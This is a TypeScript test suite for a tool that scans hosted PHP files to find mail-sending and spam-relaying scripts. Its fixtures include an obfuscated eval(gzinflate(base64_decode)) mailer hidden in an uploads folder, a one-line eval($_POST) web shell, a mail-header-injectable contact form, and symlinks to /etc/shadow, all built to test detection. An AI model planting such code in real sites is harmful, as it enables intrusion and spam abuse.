import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { runCommand } from '../../service/sources/run-command.ts';
import { analysePhpCode, scanPhpFiles, type PhpFile, type PhpScan } from '../../service/sources/php-files.ts';

let root = '';
let home = '';
let docroot = '';
let outside = '';
let scan: PhpScan;

const CONTACT_HELPER = `<?php
// mail.php: helper of the old contact form
$to = $_REQUEST['email'];
$headers = "From: " . $_POST['from'] . "\\r\\n";
$subject = $_POST['subject'];
mail($to, $subject, $_POST['body'], $headers);
echo "ok";
`;
const SAFE_FORM = `<?php
$email = filter_var($_POST['email'] ?? '', FILTER_VALIDATE_EMAIL);
$body = "From the web form:\\n" . $_POST['message'];
// mail($_POST['to'], 'x', 'y');   <- a comment must not count
$note = "call mail($_POST[to]) later";
mail('info@example.jp', 'Inquiry', $body);
`;
const WP_FORM = `<?php
require_once ABSPATH . WPINC . '/PHPMailer/PHPMailer.php';
$m = new PHPMailer\\PHPMailer\\PHPMailer();
$m->addAddress(get_option('admin_email'));
$m->addReplyTo($_POST['email']);
$m->Body = $_POST['message'];
$m->send();
`;
const MAILER_LIBRARY = `<?php
namespace PHPMailer\\PHPMailer;
class PHPMailer {
    public $Sendmail = '/usr/sbin/sendmail';
    protected function sendmailSend($header, $body) {
        $sendmail = sprintf('%s -oi -t', escapeshellcmd($this->Sendmail));
        $mail = @popen($sendmail, 'w');
        fwrite($mail, $header . $body);
        return pclose($mail) === 0;
    }
    protected function mailPassthru($to, $subject, $body, $header, $params) {
        return @mail($to, $subject, $body, $header, $params);
    }
}
`;
const BIG_HEAD = '<?php mail($_POST["t"], "s", "b");\n';
const HIDDEN_MAILER_CODE = `$to = $_POST['to']; $s = $_POST['s']; @mail($to, $s, $_POST['b'], "From: " . $_POST['f']); echo "sent";`;

function find(path: string): PhpFile | undefined {
  return scan.files.find((f) => f.path === path);
}

describe('scanning the PHP files of a subscription', () => {
  before(async () => {
    root = await mkdtemp(join(tmpdir(), 'sendtrace-files-'));
    home = join(root, 'vhosts', 'example.jp');
    docroot = join(home, 'httpdocs');
    outside = join(root, 'outside');
    const w = async (rel: string, body: string | Buffer) => {
      await mkdir(join(home, rel, '..'), { recursive: true });
      await writeFile(join(home, rel), body);
    };
    await w('httpdocs/contact/mail.php', CONTACT_HELPER);
    await w('httpdocs/contact/index.php', SAFE_FORM);
    await w('httpdocs/contact/sendmail', CONTACT_HELPER);          // extensionless, only read when named by the logs
    await w('httpdocs/wp-content/plugins/simple-contact/form.php', WP_FORM);
    await w('httpdocs/wp-includes/PHPMailer/PHPMailer.php', MAILER_LIBRARY);
    const payload = deflateRawSync(Buffer.from(HIDDEN_MAILER_CODE)).toString('base64');
    await w('httpdocs/wp-content/uploads/2021/11/.cache.php', `<?php eval(gzinflate(base64_decode('${payload}'))); ?>`);
    await w('httpdocs/about.php', '<?php echo "hello";');
    await w('httpdocs/big.php', Buffer.concat([Buffer.from(BIG_HEAD), Buffer.alloc(5 * 1024 * 1024, 0x20)]));
    await w('httpdocs/binary.php', Buffer.concat([randomBytes(64 * 1024), Buffer.from('<?php mail('), randomBytes(1024), Buffer.from([0, 0, 0])]));
    await w('httpdocs/evil\nname.php', '<?php mail($_GET["t"], "s", "b");');
    await mkdir(outside, { recursive: true });
    await writeFile(join(outside, 'evil.php'), '<?php mail($_POST["x"], "s", "b");');
    await symlink('/etc/shadow', join(docroot, 'shadow.php'));
    await symlink(join(outside, 'evil.php'), join(docroot, 'linked.php'));
    await symlink('..', join(docroot, 'loop'));
    await symlink('self', join(docroot, 'self'));
    await writeFile(Buffer.from(`${docroot}/caf\xe9.php`, 'latin1'), '<?php eval($_POST["c"]);');
    const r = await runCommand(['mkfifo', join(docroot, 'fifo.php')]);
    assert.equal(r.code, 0, r.stderr);
    scan = await scanPhpFiles({
      home, docroots: [docroot],
      extraPaths: [join(docroot, 'contact/mail.php'), join(docroot, 'contact/sendmail'), join(docroot, 'contact/../contact/mail.php'), join(docroot, 'gone.php'), '/etc/passwd', join(docroot, 'fifo.php'), join(docroot, 'linked.php')],
      now: Date.now(),
    });
  });
  after(async () => {
    if (root) await rm(root, { recursive: true, force: true });
  });

  it('sees that the contact helper lets the visitor choose recipient and headers', () => {
    const f = find(join(docroot, 'contact/mail.php'))!;
    assert.ok(f, JSON.stringify(scan.files.map((x) => x.path)));
    assert.deepEqual(f.sends, ['mail']);
    assert.ok(f.signals.some((s) => s.signal === 'input-to-recipient' && s.detail.includes('line 6') && s.detail.includes("$_REQUEST['email']")), JSON.stringify(f.signals));
    assert.ok(f.signals.some((s) => s.signal === 'input-to-headers' && s.detail.includes('$_POST')));
    assert.equal(f.namedByLogs, true);
    assert.equal(f.library, false);
    assert.deepEqual(f.urlPaths, ['/contact/mail.php']);
    assert.match(f.sha256!, /^[0-9a-f]{64}$/);
  });

  it('does not blame a form that mails a fixed address, and ignores mail() in comments and strings', () => {
    const f = find(join(docroot, 'contact/index.php'))!;
    assert.deepEqual(f.sends, ['mail']);
    assert.equal(f.signals.filter((s) => s.signal.startsWith('input-to')).length, 0, JSON.stringify(f.signals));
  });

  it('marks the bundled PHPMailer as a library and the WordPress form as its caller', () => {
    const lib = find(join(docroot, 'wp-includes/PHPMailer/PHPMailer.php'))!;
    assert.equal(lib.library, true);
    assert.ok(lib.sends.includes('sendmail-pipe') && lib.sends.includes('mail'), lib.sends.join());
    assert.ok(!lib.signals.some((s) => s.signal.startsWith('input-to')));
    const form = find(join(docroot, 'wp-content/plugins/simple-contact/form.php'))!;
    assert.equal(form.library, false);
    assert.deepEqual(form.sends, ['phpmailer']);
    assert.ok(!form.signals.some((s) => s.signal === 'input-to-recipient'), JSON.stringify(form.signals));
    assert.ok(form.includes.some((i) => i.includes('PHPMailer.php')));
  });

  it('finds the obfuscated mailer hidden in the uploads folder, and what its payload does', () => {
    const f = find(join(docroot, 'wp-content/uploads/2021/11/.cache.php'))!;
    const names = f.signals.map((s) => s.signal);
    for (const n of ['obfuscation', 'hidden-name', 'uploads-folder', 'input-to-recipient', 'input-to-headers']) assert.ok(names.includes(n as never), `${n} missing: ${names.join()}`);
    assert.deepEqual(f.sends, ['mail']);
    assert.ok(f.signals.some((s) => s.detail.includes('base64_decode→gzinflate→eval') || s.detail.includes('base64_decode→gzinflate')), JSON.stringify(f.signals));
    assert.equal(f.library, false);
  });

  it('reports symlinks without following them, loops included', () => {
    const shadow = scan.symlinks.find((s) => s.path === join(docroot, 'shadow.php'))!;
    assert.deepEqual(shadow, { path: join(docroot, 'shadow.php'), target: '/etc/shadow', outsideHome: true });
    assert.ok(scan.symlinks.some((s) => s.path === join(docroot, 'linked.php') && s.outsideHome));
    assert.ok(!scan.files.some((f) => f.path.endsWith('shadow.php') || f.path.endsWith('linked.php') || f.path.startsWith(outside)));
    assert.ok(scan.warnings.some((w) => w.includes('linked.php') && w.includes('symlink')));
    assert.ok(scan.stats.dirs < 50, `walked ${scan.stats.dirs} folders`);
  });

  it('lists a file over the size limit without reading it', () => {
    const f = find(join(docroot, 'big.php'))!;
    assert.equal(f.read, false);
    assert.equal(f.sha256, null);
    assert.equal(f.size, 5 * 1024 * 1024 + Buffer.byteLength(BIG_HEAD));
    assert.deepEqual(f.sends, []);
    assert.ok(f.signals.some((s) => s.signal === 'too-large'));
  });

  it('survives binary content and reports hostile names escaped with their exact bytes', () => {
    assert.ok(scan.stats.read >= 6);
    const nl = scan.files.find((f) => f.path.includes('evil'))!;
    assert.equal(nl.path, join(docroot, 'evil\\x0aname.php'));
    assert.equal(Buffer.from(nl.pathBase64!, 'base64').toString(), join(docroot, 'evil\nname.php'));
    assert.ok(nl.signals.some((s) => s.signal === 'input-to-recipient'));
    const latin = scan.files.find((f) => f.path.includes('caf'))!;
    assert.equal(latin.path, join(docroot, 'caf\\xe9.php'));
    assert.ok(latin.signals.some((s) => s.signal === 'input-as-code'));
  });

  it('reads files named by the logs whatever their name, and refuses the rest with a warning each', () => {
    const f = find(join(docroot, 'contact/sendmail'))!;
    assert.equal(f.namedByLogs, true);
    assert.deepEqual(f.sends, ['mail']);
    assert.ok(scan.warnings.some((w) => w.includes('gone.php') && w.includes('no longer exists')));
    assert.ok(scan.warnings.some((w) => w.includes('/etc/passwd') && w.includes('outside the home')));
    assert.ok(scan.warnings.some((w) => w.includes('fifo.php') && w.includes('not a regular file')));
    assert.equal(scan.files.filter((x) => x.path === join(docroot, 'contact/mail.php')).length, 1);
    assert.equal(find(join(docroot, 'about.php')), undefined);
  });

  it('stops at the depth limit and says so', async () => {
    let deep = join(root, 'deep');
    for (let i = 0; i < 8; i++) deep = join(deep, `d${i}`);
    await mkdir(deep, { recursive: true });
    await writeFile(join(deep, 'x.php'), '<?php mail($_POST["a"], "b", "c");');
    const res = await scanPhpFiles({ home: join(root, 'deep'), docroots: [], extraPaths: [], limits: { maxDepth: 3 } });
    assert.equal(res.files.length, 0);
    assert.equal(res.stats.complete, false);
    assert.ok(res.warnings.some((w) => w.includes('deeper than 3')));
    const full = await scanPhpFiles({ home: join(root, 'deep'), docroots: [], extraPaths: [] });
    assert.equal(full.files.length, 1);
  });

  it('reads hostile 2 MB files in bounded time', () => {
    const N = 2 * 1024 * 1024;
    for (const text of ['<?php ' + 'mail('.repeat(N / 5), '<?php ' + 'eval(base64_decode('.repeat(N / 19), '<?php ' + "'\\".repeat(N / 2), '<?php $a' + '[x'.repeat(N / 2)]) {
      const t = Date.now();
      analysePhpCode(text);
      assert.ok(Date.now() - t < 5000, `took ${Date.now() - t} ms`);
    }
  });

  it('warns instead of failing when the home cannot be read', async () => {
    const res = await scanPhpFiles({ home: join(root, 'nope'), docroots: [], extraPaths: [] });
    assert.deepEqual(res.files, []);
    assert.ok(res.warnings[0]!.includes('ENOENT'));
  });
});
